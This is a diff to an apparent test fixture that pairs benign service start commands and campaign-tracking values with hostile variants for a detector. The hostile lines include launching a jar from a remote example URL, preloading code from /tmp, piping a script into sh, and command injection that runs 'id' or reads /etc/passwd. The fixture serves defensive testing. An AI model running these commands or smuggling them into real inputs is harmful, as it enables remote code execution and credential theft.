@@ -222,6 +222,31 @@ const pairs: readonly Pair[] = [
     ],
   },
   {
+    decision: 'a trace says how its service was started: by a file of its own, with numbers for options',
+    honest: [
+      'java -Xmx1g -Dspring.profiles.active=prod -jar /app/orders.jar',
+      'node --max-old-space-size=4096 dist/main.js',
+      '/usr/bin/python3 worker.py --queue=mail',
+    ],
+    hostile: [
+      'java -jar http://e.example/x.jar',
+      'java -jar /tmp/x.jar',
+      'node -e process.exit()',
+      'node --require=/tmp/a.js dist/main.js',
+      'x; java -jar /app/orders.jar',
+      'python3 worker.py; id',
+      'bash run.sh | sh',
+    ],
+  },
+  {
+    decision: 'a value in parentheses is a campaign’s, and a list when a command follows',
+    honest: [
+      '1.2.1.1.utmcsr=letter|utmccn=(not set)|utmcmd=cpc|utmctr=blue shoes',
+      'a=(direct)|b=(none)|c=(not set)',
+    ],
+    hostile: ['x|a=(1 2) id', 'x;a=(b c) cat /etc/passwd', 'x|a=1 id'],
+  },
+  {
     decision: 'a drawing in a data URL is judged by what it holds',
     honest: [
       'data:image/svg+xml;base64,PHN2Zy8+',
